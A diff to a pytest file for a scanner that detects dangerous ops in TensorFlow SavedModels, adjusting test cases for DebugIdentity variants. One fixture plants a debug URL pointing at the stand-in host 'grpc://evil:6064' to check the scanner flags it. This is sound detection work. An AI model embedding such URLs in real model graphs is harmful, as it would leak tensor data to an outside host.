@@ -199,7 +199,7 @@ def test_strings_that_are_not_graphs_are_left_alone() -> None:
         ("DecodeProtoV2", {"descriptor_source": b"bytes://abc"}, False),
         ("DecodeProtoV2", {"descriptor_source": b"/etc/protos.desc"}, True),
         ("DebugIdentityV2", {}, False),
-        ("DebugIdentityV2", {"dump_root": b"/tmp/dump"}, True),
+        ("DebugIdentityV2", {"dump_root": b"/tmp/dump"}, False),  # no such attr: TensorFlow would refuse it
         ("ImmutableConst", {"memory_region_name": b"weights.mmap"}, True),
         ("EagerPyFunc", {"token": b"pyfunc_3"}, True),
     ],
@@ -212,10 +212,11 @@ def test_conditional_ops(op: str, attrs: dict[str, bytes], flagged: bool) -> Non
     assert bool(scan_of(saved_model)["dangerous_ops"]) is flagged
 
 
-def test_debug_urls_list_attribute() -> None:
+@pytest.mark.parametrize("op", ["DebugIdentity", "DebugIdentityV2"])
+def test_debug_urls_list_attribute(op: str) -> None:
     saved_model, meta_graph = one_graph()
-    meta_graph.graph_def.node.add(name="quiet", op="DebugIdentity").attr["debug_urls"].list.SetInParent()
-    loud = meta_graph.graph_def.node.add(name="loud", op="DebugIdentity")
+    meta_graph.graph_def.node.add(name="quiet", op=op).attr["debug_urls"].list.SetInParent()
+    loud = meta_graph.graph_def.node.add(name="loud", op=op)
     loud.attr["debug_urls"].list.s.append(b"grpc://evil:6064")
     [finding] = scan_of(saved_model)["dangerous_ops"]
     assert finding["node"] == "loud" and finding["argument"] == "grpc://evil:6064"
